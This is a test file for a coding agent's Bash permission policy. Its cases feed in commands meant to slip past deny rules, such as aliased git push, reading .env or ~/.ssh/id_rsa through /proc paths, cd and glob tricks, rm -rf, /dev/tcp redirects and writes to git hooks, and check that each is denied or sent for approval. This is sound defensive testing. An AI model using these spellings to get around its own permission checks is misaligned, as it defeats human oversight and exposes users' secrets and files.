/**
 * The Bash decision (src/permissions/bash-policy.ts) pinned down decision by decision: each case
 * states the whole outcome (behaviour, reason, rule, suggestion) for a command a model might send,
 * so that a change to any branch — a deny that no longer fires, an ask turned into an allow, a
 * reason that stops naming the rule — turns a test red. Most cases are attacks: a denied program
 * reached by another spelling, a denied file reached through /proc, a cd, a script file, a
 * redirect; the rest fix where bcode may allow on its own.
 */
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { makeWorld, policyFor, type PolicySettings } from './fixture.js';
import { procSpelling } from '../../src/permissions/bash-policy.js';
import type { PermissionDecision, PermissionMode } from '../../src/permissions/types.js';

const w = makeWorld();
beforeAll(() => {
  fs.mkdirSync(path.join(w.project, '.git', 'hooks'), { recursive: true });
  fs.writeFileSync(path.join(w.project, 'script.sh'), 'rm -rf build\n');
});
afterAll(() => fs.rmSync(w.root, { recursive: true, force: true }));

/** `$P` project, `$O` outside, `$H` home in commands and settings; `<R>` the world's root in expectations. */
// A reason quotes the command cut to 60 characters, and the root's length follows TMPDIR (npm run mutate
// gives each run a longer one): expectations quoting an absolute path accept the quote cut short.
const sub = (s: string) => s.replaceAll('$P', w.project).replaceAll('$O', w.outside).replaceAll('$H', w.home);
const subAll = <T>(v: T): T => JSON.parse(sub(JSON.stringify(v))) as T;

async function decide(command: string, settings: PolicySettings = {}, mode?: PermissionMode, shellCwd?: string): Promise<PermissionDecision> {
  const policy = policyFor(w, subAll(settings), mode ? { mode } : {});
  return policy.decide('Bash', { command: sub(command) }, shellCwd ? { shellCwd } : undefined);
}
const unroot = (d: PermissionDecision) => JSON.parse(JSON.stringify(d).replaceAll(w.root, '<R>')) as PermissionDecision;

const ALLOW_BASH = ['Bash'];
const PLAN = 'plan mode is on: only reading and proposing is allowed, so this was not run (the user can leave plan mode to make changes)';
const GIT_PROTECTED = 'a protected path (git runs the programs its configuration and hooks name), which needs approval even when edits or the command are allowed';

type Expected = Omit<Partial<PermissionDecision>, 'reason'> & { behavior: PermissionDecision['behavior']; reason?: string | RegExp };
type Case = [name: string, command: string, settings: PolicySettings, mode: PermissionMode | undefined, expected: Expected];

const cases: Case[] = [
  // ---- no command, unparseable command ----
  ['a blank command asks', '   ', {}, undefined, { behavior: 'ask', reason: 'Bash was called without a command' }],
  ['an unparseable command a deny rule names as a whole is denied', 'echo "unterminated', { deny: ['Bash(echo:*)'] }, undefined, { behavior: 'deny', reason: 'command is denied by rule Bash(echo:*)', rule: 'Bash(echo:*)' }],
  ['an unparseable command is denied whenever some Bash deny rule exists', 'echo "unterminated', { deny: ['Bash(rm:*)'] }, undefined, { behavior: 'deny', reason: 'the command could not be checked (unparseable shell syntax), and rule Bash(rm:*) denies some commands, so it was not run', rule: 'Bash(rm:*)' }],
  ['an unparseable command is allowed in bypassPermissions', 'echo "unterminated', {}, 'bypassPermissions', { behavior: 'allow', reason: 'bypassPermissions mode' }],
  ['an unparseable command is denied in plan mode', 'echo "unterminated', {}, 'plan', { behavior: 'deny', reason: `Bash: ${PLAN}` }],
  ['an unparseable command asks otherwise', 'echo "unterminated', {}, undefined, { behavior: 'ask', reason: 'the command could not be parsed (unparseable shell syntax), so it needs approval' }],

  // ---- a denied program by another spelling ----
  ['git -C dir push is git push', 'git -C . push', { allow: ALLOW_BASH, deny: ['Bash(git push:*)'] }, undefined, { behavior: 'deny', reason: "'git -C . push' is denied by rule Bash(git push:*)", rule: 'Bash(git push:*)' }],
  ['git -c k=v --no-pager push is git push', 'git -c a=b --no-pager push', { allow: ALLOW_BASH, deny: ['Bash(git push:*)'] }, undefined, { behavior: 'deny', rule: 'Bash(git push:*)' }],
  ['git --git-dir dir push is git push', 'git --git-dir x push', { allow: ALLOW_BASH, deny: ['Bash(git push:*)'] }, undefined, { behavior: 'deny', rule: 'Bash(git push:*)' }],
  ['git --work-tree dir push is git push', 'git --work-tree x push', { allow: ALLOW_BASH, deny: ['Bash(git push:*)'] }, undefined, { behavior: 'deny', rule: 'Bash(git push:*)' }],
  ['git --namespace n push is git push', 'git --namespace x push', { allow: ALLOW_BASH, deny: ['Bash(git push:*)'] }, undefined, { behavior: 'deny', rule: 'Bash(git push:*)' }],
  ['git --config-env k=v push is git push', 'git --config-env a=B push', { allow: ALLOW_BASH, deny: ['Bash(git push:*)'] }, undefined, { behavior: 'deny', rule: 'Bash(git push:*)' }],
  ['git --super-prefix p push is git push', 'git --super-prefix x push', { allow: ALLOW_BASH, deny: ['Bash(git push:*)'] }, undefined, { behavior: 'deny', rule: 'Bash(git push:*)' }],
  ['git --exec-path p push is git push', 'git --exec-path x push', { allow: ALLOW_BASH, deny: ['Bash(git push:*)'] }, undefined, { behavior: 'deny', rule: 'Bash(git push:*)' }],
  ['an unknown git subcommand may be an alias for a denied one', 'git co main', { allow: ALLOW_BASH, deny: ['Bash(git push:*)'] }, undefined, { behavior: 'deny', reason: "'git co main' is denied by rule Bash(git push:*) (it could be a git alias for a denied command)", rule: 'Bash(git push:*)' }],
  ['so may one of git named by a path', '/usr/bin/git co', { allow: ALLOW_BASH, deny: ['Bash(git push:*)'] }, undefined, { behavior: 'deny', reason: "'/usr/bin/git co' is denied by rule Bash(git push:*) (it could be a git alias for a denied command)" }],
  ['an alias is caught by a git rule written with a space', 'git co', { allow: ALLOW_BASH, deny: ['Bash(git push origin)'] }, undefined, { behavior: 'deny', rule: 'Bash(git push origin)' }],
  ['a denied git command named directly is not called an alias', 'git push', { allow: ALLOW_BASH, deny: ['Bash(git push:*)'] }, undefined, { behavior: 'deny', reason: "'git push' is denied by rule Bash(git push:*)" }],
  ['a known git subcommand is not taken for an alias', 'git status', { allow: ALLOW_BASH, deny: ['Bash(git push:*)'] }, undefined, { behavior: 'allow', reason: 'allowed by rule Bash', rule: 'Bash' }],
  ['git with only options has no subcommand to alias', 'git --version', { allow: ALLOW_BASH, deny: ['Bash(git push:*)'] }, undefined, { behavior: 'allow' }],
  ['a git alias rule does not reach other programs', 'gitk co', { allow: ALLOW_BASH, deny: ['Bash(git push:*)'] }, undefined, { behavior: 'allow' }],
  ['a program named by a path is its name for deny rules', '/bin/rm x', { allow: ALLOW_BASH, deny: ['Bash(rm:*)'] }, undefined, { behavior: 'deny', reason: "'/bin/rm x' is denied by rule Bash(rm:*)", rule: 'Bash(rm:*)' }],
  ['a leading assignment does not hide a denied program', 'FOO=1 rm x', { allow: ALLOW_BASH, deny: ['Bash(rm:*)'] }, undefined, { behavior: 'deny', rule: 'Bash(rm:*)' }],
  ['a quoted argument is matched unquoted by deny rules', "rm '-rf' x", { allow: ALLOW_BASH, deny: ['Bash(rm -rf:*)'] }, undefined, { behavior: 'deny', rule: 'Bash(rm -rf:*)' }],
  ['an allow rule does not allow a program of that name elsewhere', '/tmp/evil/rm x', { allow: ['Bash(rm:*)'] }, undefined, { behavior: 'ask', reason: "'/tmp/evil/rm x' needs approval", suggestedRule: 'Bash(/tmp/evil/rm x)' }],
  ['a command named by a variable is not allowed by a narrow rule', '$CMD x', { allow: ['Bash(echo:*)'] }, undefined, { behavior: 'ask', reason: "'$CMD x' (its command name is not a literal word ($CMD), so it could be any command) needs approval" }],
  ['a command named by a variable is allowed by a rule for every command', '$CMD x', { allow: ALLOW_BASH }, undefined, { behavior: 'allow', reason: 'allowed by rule Bash', rule: 'Bash' }],
  ['a command named by a variable is denied when a Bash deny rule exists', '$CMD x', { allow: ALLOW_BASH, deny: ['Bash(rm:*)'] }, undefined, { behavior: 'deny', reason: "'$CMD x': its command name is not a literal word ($CMD), so it could be any command, and rule Bash(rm:*) denies some commands, so it was not run", rule: 'Bash(rm:*)' }],
  ['a command named by a variable asks when file deny rules exist', '$CMD x', { allow: ALLOW_BASH, deny: ['Read(./.env)'] }, undefined, { behavior: 'ask', reason: "'$CMD x': its command name is not a literal word ($CMD), so it could be any command, and deny rules for files exist (Read(./.env)); a deny rule may cover it, so it needs approval" }],
  ['a command named by a variable asks with an Edit deny rule too', '$CMD x', { allow: ALLOW_BASH, deny: ['Edit(./src/**)'] }, undefined, { behavior: 'ask', reason: "'$CMD x': its command name is not a literal word ($CMD), so it could be any command, and deny rules for files exist (Edit(./src/**)); a deny rule may cover it, so it needs approval" }],
  ['a deny rule for another tool does not make an opaque command ask', '$CMD x', { allow: ALLOW_BASH, deny: ['WebFetch'] }, undefined, { behavior: 'allow' }],

  // ---- suggestions ----
  ['each pending command gets a suggestion', 'cargo build && npm run test', {}, undefined, { behavior: 'ask', reason: "'cargo build', 'npm run test' need approval", suggestedRule: 'Bash(cargo build)', suggestedRules: ['Bash(cargo build)', 'Bash(npm run test)'] }],
  ['one command that cannot be generalized drops every suggestion', 'cargo build && $CMD', {}, undefined, { behavior: 'ask', reason: "'cargo build', '$CMD' (its command name is not a literal word ($CMD), so it could be any command) need approval" }],

  // ---- a denied file by another route ----
  ['a relative path after cd is checked from the cd target', 'cd src && cat ../.env', { allow: ALLOW_BASH, deny: ['Read(./.env)'] }, undefined, { behavior: 'deny', reason: "'cat ../.env' touches <R>/project/.env, denied by rule Read(./.env)", rule: 'Read(./.env)' }],
  ['a relative path after cd to an outside directory', 'cd $O && cat passwd', { allow: ALLOW_BASH, deny: ['Read(//$O/passwd)'] }, undefined, { behavior: 'deny', rule: 'Read(//<R>/outside/passwd)' }],
  ['a relative path after pushd', 'pushd $O && cat passwd', { allow: ALLOW_BASH, deny: ['Read(//$O/passwd)'] }, undefined, { behavior: 'deny', rule: 'Read(//<R>/outside/passwd)' }],
  ['cd options are skipped to find the target', 'cd -P $O && cat passwd', { allow: ALLOW_BASH, deny: ['Read(//$O/passwd)'] }, undefined, { behavior: 'deny', rule: 'Read(//<R>/outside/passwd)' }],
  ['a bare cd goes home', 'cd && cat .ssh/id_rsa', { allow: ALLOW_BASH, deny: ['Read(~/.ssh/**)'] }, undefined, { behavior: 'deny', reason: "'cat .ssh/id_rsa' touches <R>/home/.ssh/id_rsa, denied by rule Read(~/.ssh/**)" }],
  ['cd to a home-relative directory', 'cd ~/.ssh && cat id_rsa', { allow: ALLOW_BASH, deny: ['Read(~/.ssh/**)'] }, undefined, { behavior: 'deny', rule: 'Read(~/.ssh/**)' }],
  ['after cd - the directory is unknown: ask when Read deny rules exist', 'cd - && cat .env', { allow: ALLOW_BASH, deny: ['Read(./.env)'] }, undefined, { behavior: 'ask', reason: "'cd -' reads a file named by an expansion ('-' is relative to a directory only known when the command runs) and Read deny rules exist (Read(./.env)); a deny rule may cover it, so it needs approval (and 1 more)" }],
  ['after popd the directory is unknown', 'popd && cat .env', { allow: ALLOW_BASH, deny: ['Read(./.env)'] }, undefined, { behavior: 'ask', reason: "'cat .env' reads a file named by an expansion ('.env' is relative to a directory only known when the command runs) and Read deny rules exist (Read(./.env)); a deny rule may cover it, so it needs approval" }],
  ['after cd to a variable the directory is unknown', 'cd $D && cat .env', { allow: ALLOW_BASH, deny: ['Read(./.env)'] }, undefined, { behavior: 'ask' }],
  ['an absolute path is checked from the shell directory even after an unknown cd', 'cd $D && cat $P/.env', { allow: ALLOW_BASH, deny: ['Read(./.env)'] }, undefined, { behavior: 'deny', rule: 'Read(./.env)' }],
  ['/proc/self/root is the root directory', 'cat /proc/self/root$P/.env', { allow: ALLOW_BASH, deny: ['Read(./.env)'] }, undefined, { behavior: 'deny', reason: /^'cat \/proc\/self\/root(<R>\/project\/\.env|.*…)' touches <R>\/project\/\.env, denied by rule Read\(\.\/\.env\)$/, rule: 'Read(./.env)' }],
  ['/proc/self/root alone is /', 'cat /proc/self/root', { allow: ALLOW_BASH, deny: ['Read(//**)'] }, undefined, { behavior: 'deny', reason: "'cat /proc/self/root' touches /, denied by rule Read(//**)" }],
  ['/proc/thread-self/root is the root directory too', 'cat /proc/thread-self/root$P/.env', { allow: ALLOW_BASH, deny: ['Read(./.env)'] }, undefined, { behavior: 'deny', rule: 'Read(./.env)' }],
  ['/proc/self/cwd is the shell directory', 'cat /proc/self/cwd/.env', { allow: ALLOW_BASH, deny: ['Read(./.env)'] }, undefined, { behavior: 'deny', reason: "'cat /proc/self/cwd/.env' touches <R>/project/.env, denied by rule Read(./.env)", rule: 'Read(./.env)' }],
  ['/proc/thread-self/cwd is the shell directory', 'cat /proc/thread-self/cwd/.env', { allow: ALLOW_BASH, deny: ['Read(./.env)'] }, undefined, { behavior: 'deny', rule: 'Read(./.env)' }],
  // `..` after /proc/self/cwd climbs from the shell's directory, not from /proc/self: a plain
  // normalization read these as /proc/self/… and let the denied file through (fixed with these tests).
  ['/proc/self/cwd/.. is the parent of the shell directory', 'cat /proc/self/cwd/../project/.env', { allow: ALLOW_BASH, deny: ['Read(./.env)'] }, undefined, { behavior: 'deny', reason: "'cat /proc/self/cwd/../project/.env' touches <R>/project/.env, denied by rule Read(./.env)", rule: 'Read(./.env)' }],
  ['/proc/self/cwd/.. follows a cd', 'cd src && cat /proc/self/cwd/../.env', { allow: ALLOW_BASH, deny: ['Read(./.env)'] }, undefined, { behavior: 'deny', reason: "'cat /proc/self/cwd/../.env' touches <R>/project/.env, denied by rule Read(./.env)", rule: 'Read(./.env)' }],
  ['/proc/self/root/.. is still /', 'cat /proc/self/root/..$P/.env', { allow: ALLOW_BASH, deny: ['Read(./.env)'] }, undefined, { behavior: 'deny', reason: /^'cat \/proc\/self\/root\/\.\.(<R>\/project\/\.env|.*…)' touches <R>\/project\/\.env, denied by rule Read\(\.\/\.env\)$/ }],
  ['/dev/fd/.. is /proc/self: unknown', 'cat /dev/fd/../cwd/../project/.env', { allow: ALLOW_BASH, deny: ['Read(./.env)'] }, undefined, { behavior: 'ask', reason: /reaches a file through another process or an open descriptor/ }],
  ['/proc spelled with . and // segments', 'cat /proc/./self//cwd/.env', { allow: ALLOW_BASH, deny: ['Read(./.env)'] }, undefined, { behavior: 'deny', rule: 'Read(./.env)' }],
  ['.. before the /proc link is resolved by name', 'cat /proc/1/../self/cwd/.env', { allow: ALLOW_BASH, deny: ['Read(./.env)'] }, undefined, { behavior: 'deny', rule: 'Read(./.env)' }],
  ['/proc/self/cwd after an unknown cd is unknown', 'cd $D && cat /proc/self/cwd/.env', { allow: ALLOW_BASH, deny: ['Read(./.env)'] }, undefined, { behavior: 'ask' }],
  ["another process's cwd is unknown", 'cat /proc/1/cwd/.env', { allow: ALLOW_BASH, deny: ['Read(./.env)'] }, undefined, { behavior: 'ask', reason: "'cat /proc/1/cwd/.env' reads a file named by an expansion ('/proc/1/cwd/.env' reaches a file through another process or an open descriptor) and Read deny rules exist (Read(./.env)); a deny rule may cover it, so it needs approval" }],
  ["another process's root is unknown", 'cat /proc/1/root$P/.env', { allow: ALLOW_BASH, deny: ['Read(./.env)'] }, undefined, { behavior: 'ask' }],
  ['an open descriptor through /proc is unknown', 'cat /proc/self/fd/3', { allow: ALLOW_BASH, deny: ['Read(./.env)'] }, undefined, { behavior: 'ask' }],
  ['a mapped file through /proc is unknown', 'cat /proc/self/map_files/x', { allow: ALLOW_BASH, deny: ['Read(./.env)'] }, undefined, { behavior: 'ask' }],
  ['/dev/fd/3 is unknown', 'cat /dev/fd/3', { allow: ALLOW_BASH, deny: ['Read(./.env)'] }, undefined, { behavior: 'ask', reason: "'cat /dev/fd/3' reads a file named by an expansion ('/dev/fd/3' reaches a file through another process or an open descriptor) and Read deny rules exist (Read(./.env)); a deny rule may cover it, so it needs approval" }],
  ['/dev/fd/0 to 2 are the standard streams', 'cat /dev/fd/0 /dev/fd/2', { allow: ALLOW_BASH, deny: ['Read(./.env)'] }, undefined, { behavior: 'allow' }],
  // Bracket expressions bash reads and an earlier glob reading did not: each let `cat` read a denied file.
  ['a POSIX class in a glob does not hide a denied file', 'cat .[[:alpha:]]nv', { allow: ALLOW_BASH, deny: ['Read(./.env)'] }, undefined, { behavior: 'deny', reason: "'cat .[[:alpha:]]nv' touches <R>/project/.env, denied by rule Read(./.env)", rule: 'Read(./.env)' }],
  ['a ] first in a bracket is one of its characters', 'cat .[]e]nv', { allow: ALLOW_BASH, deny: ['Read(./.env)'] }, undefined, { behavior: 'deny', rule: 'Read(./.env)' }],
  ['a ] first in a negated bracket too', 'cat .[!]x]nv', { allow: ALLOW_BASH, deny: ['Read(./.env)'] }, undefined, { behavior: 'deny', rule: 'Read(./.env)' }],
  ['an equivalence class in a glob is unknown', 'cat .[[=e=]]nv', { allow: ALLOW_BASH, deny: ['Read(./.env)'] }, undefined, { behavior: 'ask', reason: "'cat .[[=e=]]nv' reads a file named by an expansion ('.[[=e=]]nv' uses a bracket expression this check cannot read) and Read deny rules exist (Read(./.env)); a deny rule may cover it, so it needs approval" }],
  ['a file named by an expansion asks when Read deny rules exist', 'cat $F', { allow: ALLOW_BASH, deny: ['Read(./secrets/**)'] }, undefined, { behavior: 'ask', reason: "'cat $F' reads a file named by an expansion ('$F' is only known when the command runs) and Read deny rules exist (Read(./secrets/**)); a deny rule may cover it, so it needs approval" }],
  ['but not when only Edit deny rules exist', 'cat $F', { allow: ALLOW_BASH, deny: ['Edit(./secrets/**)'] }, undefined, { behavior: 'allow' }],
  ['a file written through an expansion asks when Edit deny rules exist', 'rm $F', { allow: ALLOW_BASH, deny: ['Edit(./secrets/**)'] }, undefined, { behavior: 'ask', reason: "'rm $F' writes a file named by an expansion ('$F' is only known when the command runs) and Edit deny rules exist (Edit(./secrets/**)); a deny rule may cover it, so it needs approval" }],
  ['but not when only Read deny rules exist', 'rm $F', { allow: ALLOW_BASH, deny: ['Read(./secrets/**)'] }, undefined, { behavior: 'allow' }],
  ['a recursive write through an expansion', 'rm -rf $D', { allow: ALLOW_BASH, deny: ['Edit(./secrets/**)'] }, undefined, { behavior: 'ask', reason: "'rm -rf $D' writes a file named by an expansion ('$D' is only known when the command runs) and Edit deny rules exist (Edit(./secrets/**)); a deny rule may cover it, so it needs approval (and 1 more)" }],
  ['a recursive read through an expansion', 'grep -r x $D', { allow: ALLOW_BASH, deny: ['Read(./secrets/**)'] }, undefined, { behavior: 'ask', reason: "'grep -r x $D' reads a file named by an expansion ('$D' is only known when the command runs) and Read deny rules exist (Read(./secrets/**)); a deny rule may cover it, so it needs approval (and 1 more)" }],
  ['a recursive read through an expansion with only Edit deny rules', 'grep -r x $D', { allow: ALLOW_BASH, deny: ['Edit(./secrets/**)'] }, undefined, { behavior: 'allow' }],
  ['a write of a denied file is denied', 'rm src/a.ts', { allow: ALLOW_BASH, deny: ['Edit(./src/**)'] }, undefined, { behavior: 'deny', reason: "'rm src/a.ts' touches <R>/project/src/a.ts, denied by rule Edit(./src/**)", rule: 'Edit(./src/**)' }],
  ['a recursive delete of a denied tree is denied', 'rm -rf src/lib', { allow: ALLOW_BASH, deny: ['Edit(./src/**)'] }, undefined, { behavior: 'deny', rule: 'Edit(./src/**)' }],
  ['a recursive read of a denied tree is denied', 'grep -r x secrets', { allow: ALLOW_BASH, deny: ['Read(./secrets/**)'] }, undefined, { behavior: 'deny', rule: 'Read(./secrets/**)' }],
  ['a recursive read of a tree holding a denied path asks', 'grep -r x .', { allow: ALLOW_BASH, deny: ['Read(./secrets/**)'] }, undefined, { behavior: 'ask', reason: "'grep -r x .' reads everything under <R>/project, which holds a path denied by rule Read(./secrets/**); a deny rule may cover it, so it needs approval" }],
  ['a recursive read of a tree holding a denied file found by walking', 'grep -r x .', { allow: ALLOW_BASH, deny: ['Read(**/a.ts)'] }, undefined, { behavior: 'ask', reason: /holds a path denied by rule Read\(\*\*\/a\.ts\)/ }],
  ['a recursive read of a tree without the denied file is allowed', 'grep -r x src', { allow: ALLOW_BASH, deny: ['Read(**/nothing-here.txt)'] }, undefined, { behavior: 'allow' }],
  ['a recursive read of a tree outside a denied directory is allowed', 'grep -r x src', { allow: ALLOW_BASH, deny: ['Read(./secrets/**)'] }, undefined, { behavior: 'allow' }],
  ['a recursive read inside a denied directory rule without a glob', 'grep -r x .', { allow: ALLOW_BASH, deny: ['Read(./secrets)'] }, undefined, { behavior: 'ask', reason: /holds a path denied by rule Read\(\.\/secrets\)/ }],
  ['a recursive read of a directory a globbed deny rule reaches into asks', 'grep -r x secrets', { allow: ALLOW_BASH, deny: ['Read(./secrets/*.pem)'] }, undefined, { behavior: 'ask', reason: /reads everything under <R>\/project\/secrets, which holds a path denied by rule Read\(\.\/secrets\/\*\.pem\)/ }],
  ['a recursive write of a tree holding a denied path asks', 'rm -rf src', { allow: ALLOW_BASH, deny: ['Edit(./src/lib/**)'] }, undefined, { behavior: 'ask', reason: "'rm -rf src' changes everything under <R>/project/src, which holds a path denied by rule Edit(./src/lib/**); a deny rule may cover it, so it needs approval" }],
  ['a recursive write of a tree holding a protected path asks', 'rm -rf .', { allow: ALLOW_BASH }, undefined, { behavior: 'ask', reason: /^'rm -rf \.' changes everything under <R>\/project, including .*: a protected path \(git runs the programs/ }],
  ['a deny rule that may apply asks even in bypassPermissions', 'grep -r x .', { deny: ['Read(./secrets/**)'] }, 'bypassPermissions', { behavior: 'ask' }],
  ['a whole-tool Read deny covers every recursive read', 'grep -r x src', { allow: ALLOW_BASH, deny: ['Read'] }, undefined, { behavior: 'deny' }],

  // ---- redirects ----
  ['/dev/null is a harmless target', 'ls > /dev/null', {}, undefined, { behavior: 'allow', reason: 'read-only command inside the working directory' }],
  ['/dev/stdout, /dev/stderr, /dev/tty are harmless', 'ls > /dev/stdout 2> /dev/stderr > /dev/tty', {}, undefined, { behavior: 'allow', reason: 'read-only command inside the working directory' }],
  ['/dev/fd/1 and /dev/fd/2 are harmless', 'ls > /dev/fd/1 2> /dev/fd/2', {}, undefined, { behavior: 'allow' }],
  ['/dev/fd/3 is not', 'ls > /dev/fd/3', {}, undefined, { behavior: 'ask', reason: 'redirect > /dev/fd/3 (a target that cannot be resolved before running) needs approval' }],
  ['/dev/fd/12 is not', 'ls > /dev/fd/12', {}, undefined, { behavior: 'ask' }],
  ['reading /dev/null is still a read', 'cat < /dev/null', { deny: ['Read(//dev/**)'] }, undefined, { behavior: 'deny' }],
  ['a write to /dev/tcp is a network connection', 'ls > /dev/tcp/1.2.3.4/80', {}, undefined, { behavior: 'ask', reason: 'redirect > /dev/tcp/1.2.3.4/80 (a network connection) needs approval' }],
  ['a read from /dev/udp is a network connection', 'cat < /dev/udp/1.2.3.4/80', {}, undefined, { behavior: 'ask', reason: 'redirect < /dev/udp/1.2.3.4/80 (a network connection) needs approval' }],
  ['a network redirect asks even with a rule for every command', 'ls > /dev/tcp/1.2.3.4/80', { allow: ALLOW_BASH }, undefined, { behavior: 'ask' }],
  ['a network redirect asks in acceptEdits', 'ls > /dev/tcp/1.2.3.4/80', {}, 'acceptEdits', { behavior: 'ask' }],
  ['only /dev/tcp/… is a network target', 'ls > /dev/tcpx', {}, undefined, { behavior: 'ask', reason: 'redirect > /dev/tcpx (outside the working directory) needs approval', suggestedRule: 'Edit(//dev/**)' }],
  ['<> of a Read-denied file is denied', 'cat <> .env', { allow: ALLOW_BASH, deny: ['Read(./.env)'] }, undefined, { behavior: 'deny', reason: 'redirect <> <R>/project/.env is denied by rule Read(./.env)', rule: 'Read(./.env)' }],
  ['> of an Edit-denied file is denied', 'echo x > src/a.ts', { allow: ALLOW_BASH, deny: ['Edit(./src/**)'] }, undefined, { behavior: 'deny', reason: 'redirect > <R>/project/src/a.ts is denied by rule Edit(./src/**)', rule: 'Edit(./src/**)' }],
  ['a write redirect to an expansion asks when Edit deny rules exist', 'echo x > $F', { allow: ALLOW_BASH, deny: ['Edit(./secrets/**)'] }, undefined, { behavior: 'ask', reason: 'redirect > $F names a file only known when the command runs, and Edit deny rules exist; a deny rule may cover it, so it needs approval' }],
  ['a read redirect from an expansion asks when Read deny rules exist', 'cat < $F', { allow: ALLOW_BASH, deny: ['Read(./secrets/**)'] }, undefined, { behavior: 'ask', reason: 'redirect < $F names a file only known when the command runs, and Read deny rules exist; a deny rule may cover it, so it needs approval' }],
  ['a read redirect from an expansion with only Edit deny rules asks as unresolved', 'cat < $F', { allow: ALLOW_BASH, deny: ['Edit(./secrets/**)'] }, undefined, { behavior: 'ask', reason: 'redirect < $F (a target that cannot be resolved before running) needs approval' }],
  ['a redirect into a git hook asks in acceptEdits with every command allowed', 'echo x > .git/hooks/pre-commit', { allow: ALLOW_BASH }, 'acceptEdits', { behavior: 'ask', reason: `redirect > <R>/project/.git/hooks/pre-commit: ${GIT_PROTECTED}`, suggestedRule: 'Edit(/.git/hooks/**)' }],
  ['an Edit rule naming the hooks allows it', 'echo x > .git/hooks/pre-commit', { allow: ['Bash', 'Edit(.git/hooks/**)'] }, undefined, { behavior: 'allow', reason: 'allowed by rule Bash, Edit(.git/hooks/**)', rule: 'Bash, Edit(.git/hooks/**)' }],
  ['a broad Edit rule does not name the hooks', 'echo x > .git/hooks/pre-commit', { allow: ['Bash', 'Edit(**)'] }, undefined, { behavior: 'ask', reason: /a protected path/ }],
  ['an Edit rule naming only another hook does not cover this one', 'echo x > .git/hooks/pre-commit', { allow: ['Bash', 'Edit(.git/hooks/post-commit)'] }, undefined, { behavior: 'ask', reason: /a protected path/ }],
  ['a Read rule naming the hooks does not allow writing them', 'echo x > .git/hooks/pre-commit', { allow: ['Bash', 'Read(.git/hooks/**)'] }, undefined, { behavior: 'ask', reason: /a protected path/ }],
  ['a write to a git hook asks with every command allowed', 'touch .git/hooks/x', { allow: ALLOW_BASH }, undefined, { behavior: 'ask', reason: `'touch .git/hooks/x' writes <R>/project/.git/hooks/x: ${GIT_PROTECTED}`, suggestedRule: 'Edit(/.git/hooks/**)' }],
  ['a Bash rule spelling out the hook allows it', 'touch .git/hooks/x', { allow: ['Bash(touch .git/hooks/x)'] }, undefined, { behavior: 'allow', reason: 'allowed by rule Bash(touch .git/hooks/x)' }],
  ['a Bash rule naming the hook but not this command does not', 'touch .git/hooks/x', { allow: ['Bash(touch:*)', 'Bash(rm .git/hooks/x)'] }, undefined, { behavior: 'ask', reason: /a protected path/ }],
  ['a broad Bash prefix rule does not name the hook', 'touch .git/hooks/x', { allow: ['Bash(touch:*)'] }, undefined, { behavior: 'ask', reason: /a protected path/ }],
  ['bypassPermissions allows a protected write', 'touch .git/hooks/x', {}, 'bypassPermissions', { behavior: 'allow', reason: 'bypassPermissions mode' }],

  // ---- ask rules ----
  ['an ask rule asks', 'git push', { allow: ['Bash(git:*)'], ask: ['Bash(git push:*)'] }, undefined, { behavior: 'ask', reason: "'git push' needs approval (rule Bash(git push:*))", rule: 'Bash(git push:*)', suggestedRule: 'Bash(git push)' }],
  ['an ask rule sees a program named by a path', '/usr/bin/git push', { allow: ALLOW_BASH, ask: ['Bash(git push:*)'] }, undefined, { behavior: 'ask', rule: 'Bash(git push:*)' }],
  ['an ask rule sees a git alias', 'git co', { allow: ALLOW_BASH, ask: ['Bash(git push:*)'] }, undefined, { behavior: 'ask', rule: 'Bash(git push:*)' }],
  ['a command that could be anything asks when ask rules exist', '$CMD', { allow: ALLOW_BASH, ask: ['Bash(git push:*)'] }, undefined, { behavior: 'ask', reason: "'$CMD': its command name is not a literal word ($CMD), so it could be any command, and rule Bash(git push:*) asks about some commands", rule: 'Bash(git push:*)' }],
  ['an ask rule for a file a redirect writes', 'echo x > out.txt', { allow: ALLOW_BASH, ask: ['Edit(./out.txt)'] }, undefined, { behavior: 'ask', reason: 'redirect > <R>/project/out.txt needs approval (rule Edit(./out.txt))', rule: 'Edit(./out.txt)' }],
  ['an ask rule for a file a command reads', 'cat secrets/x', { allow: ALLOW_BASH, ask: ['Read(./secrets/**)'] }, undefined, { behavior: 'ask', reason: "'cat secrets/x' reads <R>/project/secrets/x, which needs approval (rule Read(./secrets/**))", rule: 'Read(./secrets/**)' }],
  ['an ask rule for a file a command writes', 'touch secrets/x', { allow: ALLOW_BASH, ask: ['Edit(./secrets/**)'] }, undefined, { behavior: 'ask', reason: "'touch secrets/x' writes <R>/project/secrets/x, which needs approval (rule Edit(./secrets/**))", rule: 'Edit(./secrets/**)' }],
  ['ask rules do not apply in bypassPermissions', 'git push', { ask: ['Bash(git push:*)'] }, 'bypassPermissions', { behavior: 'allow', reason: 'bypassPermissions mode' }],

  // ---- plan mode ----
  ['plan: a command with side effects is denied', 'npm install', {}, 'plan', { behavior: 'deny', reason: `'npm install' may change things; ${PLAN}` }],
  ['plan: a read-only command writing a file is denied', 'ls > out.txt', {}, 'plan', { behavior: 'deny', reason: `the command writes to a file; ${PLAN}` }],
  ['plan: a wrapper of a read-only command is still judged as a whole', 'timeout 5 ls', {}, 'plan', { behavior: 'deny' }],
  ['plan: a read-only command with a harmless redirect is allowed', 'ls > /dev/null', {}, 'plan', { behavior: 'allow' }],
  ['plan: reading a file through a redirect is allowed', 'cat < src/a.ts', {}, 'plan', { behavior: 'allow' }],
  ['plan: an allowed command with side effects is still denied', 'npm install', { allow: ['Bash(npm install)'] }, 'plan', { behavior: 'deny' }],

  // ---- allowed on bcode's own judgement, or by rules ----
  ['a comment runs nothing', '# just a comment', {}, undefined, { behavior: 'allow', reason: 'nothing to run' }],
  ['read-only commands inside the project', 'ls && cat src/a.ts', {}, undefined, { behavior: 'allow', reason: 'read-only command inside the working directory' }],
  ['a read-only command reading outside asks', 'cat $O/passwd', {}, undefined, { behavior: 'ask', reason: /^'cat (<R>\/outside\/passwd|.*…)' needs approval$/, suggestedRule: 'Bash(cat:*)' }],
  ['a read-only command reading outside is allowed by a Read rule', 'cat $O/passwd', { allow: ['Read(//$O/**)'] }, undefined, { behavior: 'allow' }],
  ['a glob over a directory with a link out asks', 'cat *', {}, undefined, { behavior: 'ask', reason: "'cat *' needs approval", suggestedRule: 'Bash(cat:*)' }],
  ['a glob over a directory without links out is read-only', 'cat src/*.ts', {}, undefined, { behavior: 'allow' }],
  ['a glob over a directory that does not exist expands to nothing', 'cat nothere/*.ts', {}, undefined, { behavior: 'allow' }],
